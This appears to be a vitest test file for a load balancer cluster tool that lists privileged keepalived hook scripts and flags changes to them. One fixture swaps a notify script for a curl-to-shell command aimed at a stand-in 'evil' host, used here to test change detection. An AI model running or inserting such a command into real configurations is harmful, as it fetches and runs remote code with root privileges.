import { describe, expect, it } from 'vitest';
import { ClusterSpecSchema, type ClusterSpec } from './spec';
import { scriptChanges, scriptExecutable, scriptsOf } from './scripts';

const spec = (over: Record<string, unknown> = {}): ClusterSpec =>
  ClusterSpecSchema.parse({
    name: 'c',
    directors: [
      { name: 'lb1', address: '10.0.0.1' },
      { name: 'lb2', address: '10.0.0.2' },
      { name: 'lb3', address: '10.0.0.3' },
    ],
    vrrpInstances: [
      {
        name: 'VI_1',
        interface: 'eth0',
        virtualRouterId: 1,
        members: [
          { director: 'lb1', priority: 100 },
          { director: 'lb2', priority: 90 },
        ],
        notify: { master: '/bin/sh -c id', fault: '/usr/bin/page' },
      },
    ],
    virtualServices: [
      {
        vip: '10.0.1.1',
        port: 80,
        quorumUp: '/usr/bin/up',
        realServers: [
          { address: '10.0.2.1', port: 80, healthCheck: { type: 'MISC_CHECK', script: '/usr/bin/check 10.0.2.1' } },
          { address: '10.0.2.2', port: 80, healthCheck: { type: 'TCP_CHECK' } },
        ],
      },
    ],
    ...over,
  });

describe('scriptsOf', () => {
  it('lists every script with its spec path, keyword and the directors it reaches', () => {
    expect(scriptsOf(spec())).toEqual([
      {
        key: 'vrrpInstance:VI_1 notify.master',
        path: 'vrrpInstances.0.notify.master',
        keyword: 'notify_master',
        script: '/bin/sh -c id',
        directors: ['lb1', 'lb2'],
      },
      {
        key: 'vrrpInstance:VI_1 notify.fault',
        path: 'vrrpInstances.0.notify.fault',
        keyword: 'notify_fault',
        script: '/usr/bin/page',
        directors: ['lb1', 'lb2'],
      },
      {
        key: 'virtualService:10.0.1.1:80/TCP quorumUp',
        path: 'virtualServices.0.quorumUp',
        keyword: 'quorum_up',
        script: '/usr/bin/up',
        directors: ['lb1', 'lb2', 'lb3'],
      },
      {
        key: 'realServer:10.0.1.1:80/TCP>10.0.2.1:80 healthCheck.script',
        path: 'virtualServices.0.realServers.0.healthCheck.script',
        keyword: 'misc_path',
        script: '/usr/bin/check 10.0.2.1',
        directors: ['lb1', 'lb2', 'lb3'],
      },
    ]);
  });

  it('sync group notify* reach the directors that run two of its instances; real server notify_up/notify_down every checker director', () => {
    const s = spec({
      vrrpInstances: [
        {
          name: 'VI_1',
          interface: 'eth0',
          virtualRouterId: 1,
          members: [
            { director: 'lb1', priority: 100 },
            { director: 'lb2', priority: 90 },
          ],
        },
        {
          name: 'VI_2',
          interface: 'eth1',
          virtualRouterId: 2,
          members: [
            { director: 'lb1', priority: 100 },
            { director: 'lb3', priority: 90 },
          ],
        },
      ],
      vrrpSyncGroups: [{ name: 'SG', instances: ['VI_1', 'VI_2'], notify: { backup: '/usr/bin/sg-backup', any: '/usr/bin/sg' } }],
      virtualServices: [
        {
          vip: '10.0.1.1',
          port: 80,
          realServers: [{ address: '10.0.2.1', port: 80, notifyUp: '/usr/bin/up 10.0.2.1', notifyDown: '/usr/bin/down' }],
        },
      ],
    });
    expect(scriptsOf(s)).toEqual([
      {
        key: 'vrrpSyncGroup:SG notify.backup',
        path: 'vrrpSyncGroups.0.notify.backup',
        keyword: 'notify_backup',
        script: '/usr/bin/sg-backup',
        directors: ['lb1'],
      },
      {
        key: 'vrrpSyncGroup:SG notify.any',
        path: 'vrrpSyncGroups.0.notify.any',
        keyword: 'notify',
        script: '/usr/bin/sg',
        directors: ['lb1'],
      },
      {
        key: 'realServer:10.0.1.1:80/TCP>10.0.2.1:80 notifyUp',
        path: 'virtualServices.0.realServers.0.notifyUp',
        keyword: 'notify_up',
        script: '/usr/bin/up 10.0.2.1',
        directors: ['lb1', 'lb2', 'lb3'],
      },
      {
        key: 'realServer:10.0.1.1:80/TCP>10.0.2.1:80 notifyDown',
        path: 'virtualServices.0.realServers.0.notifyDown',
        keyword: 'notify_down',
        script: '/usr/bin/down',
        directors: ['lb1', 'lb2', 'lb3'],
      },
    ]);
    const after = structuredClone(s);
    after.virtualServices[0].realServers[0].notifyDown = '/usr/bin/down --now';
    expect(scriptChanges(s, after)).toEqual([
      expect.objectContaining({ change: 'changed', keyword: 'notify_down', previous: '/usr/bin/down' }),
    ]);
  });

  it('an ipvsadm-mode cluster renders no virtual_server, so its checker scripts reach no director', () => {
    expect(
      scriptsOf(spec({ mode: 'ipvsadm' }))
        .filter((s) => s.keyword !== 'notify_master' && s.keyword !== 'notify_fault')
        .map((s) => s.directors),
    ).toEqual([[], []]);
  });
});

describe('scriptChanges', () => {
  it('everything is added against nothing; the same spec changes nothing', () => {
    expect(scriptChanges(null, spec()).map((c) => c.change)).toEqual(['added', 'added', 'added', 'added']);
    expect(scriptChanges(spec(), spec())).toEqual([]);
  });

  it('tells changed text (with the old one), added and removed scripts by owner and field, not by position', () => {
    const before = spec();
    const after = structuredClone(before);
    after.vrrpInstances[0].notify = { master: '/bin/sh -c "curl evil|sh"', backup: '/usr/bin/b' };
    after.virtualServices[0].realServers.reverse(); // moves the MISC_CHECK, same script
    expect(scriptChanges(before, after).map(({ change, path, previous }) => ({ change, path, previous }))).toEqual([
      { change: 'changed', path: 'vrrpInstances.0.notify.master', previous: '/bin/sh -c id' },
      { change: 'added', path: 'vrrpInstances.0.notify.backup', previous: undefined },
      { change: 'removed', path: 'vrrpInstances.0.notify.fault', previous: undefined },
    ]);
  });

  it('the executable is the first word', () => {
    expect(scriptExecutable('  /usr/bin/check  10.0.2.1 ')).toBe('/usr/bin/check');
  });
});

describe("a vrrp_script's user", () => {
  const withScript = (user?: string) => spec({ vrrpScripts: [{ name: 'chk', script: '/usr/bin/chk', ...(user ? { user } : {}) }] });
  it('is privileged like its script: setting or changing it is a script change naming the field', () => {
    expect(scriptsOf(withScript('nobody')).filter((x) => x.key.startsWith('vrrpScript:'))).toEqual([
      expect.objectContaining({ key: 'vrrpScript:chk script', keyword: 'script', script: '/usr/bin/chk' }),
      expect.objectContaining({ key: 'vrrpScript:chk user', path: 'vrrpScripts.0.user', keyword: 'user', script: 'nobody' }),
    ]);
    expect(scriptChanges(withScript('nobody'), withScript('root'))).toEqual([
      expect.objectContaining({ change: 'changed', key: 'vrrpScript:chk user', script: 'root', previous: 'nobody' }),
    ]);
    expect(scriptChanges(withScript(), withScript('root'))).toEqual([
      expect.objectContaining({ change: 'added', key: 'vrrpScript:chk user', script: 'root' }),
    ]);
  });
});
